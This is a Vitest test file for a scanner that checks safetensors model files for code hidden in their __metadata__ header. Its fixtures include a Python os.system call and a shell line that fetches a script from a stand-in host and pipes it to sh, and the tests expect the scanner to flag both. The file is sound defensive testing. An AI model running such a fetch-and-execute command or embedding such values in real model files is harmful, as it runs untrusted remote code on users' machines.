import { describe, expect, it } from 'vitest';
import { memorySource } from '../../formats/byte-source.js';
import { createScanBudget } from '../budget.js';
import type { ScanContext } from '../types.js';
import { safetensorsHandler } from './safetensors.js';

function safetensors(metadata: Record<string, string>): Uint8Array {
  const header = new TextEncoder().encode(
    JSON.stringify({ __metadata__: metadata, w: { dtype: 'F32', shape: [1], data_offsets: [0, 4] } }),
  );
  const out = new Uint8Array(8 + header.length + 4);
  new DataView(out.buffer).setBigUint64(0, BigInt(header.length), true);
  out.set(header, 8);
  return out;
}

const ctx: ScanContext = {
  config: { allowedGlobals: [], strict: false },
  budget: createScanBudget(),
  hints: {},
  depth: 0,
  members: [],
  scanNested: async () => ({ findings: [], errors: [], format: 'unknown' }),
};

describe('safetensors __metadata__ (MS-ST-002)', () => {
  it('flags Python and shell code at medium, naming the key', async () => {
    const result = await safetensorsHandler.scan(
      memorySource(safetensors({ info: "import os; os.system('id')", hook: 'curl http://x/s.sh | sh', ok: 'MIT' })),
      ctx,
    );
    expect(result.findings.map((f) => [f.ruleId, f.severity, f.location.path])).toEqual([
      ['MS-ST-002', 'medium', '__metadata__.hook'],
      ['MS-ST-002', 'medium', '__metadata__.info'],
    ]);
  });

  it('leaves ordinary metadata alone (versions, licences, URLs, prose)', async () => {
    const result = await safetensorsHandler.scan(
      memorySource(
        safetensors({
          format: 'pt',
          license: 'Apache-2.0',
          homepage: 'https://huggingface.co/org/model',
          description: 'We evaluate the model on the system prompt import task.',
        }),
      ),
      ctx,
    );
    expect(result.findings).toEqual([]);
  });
});
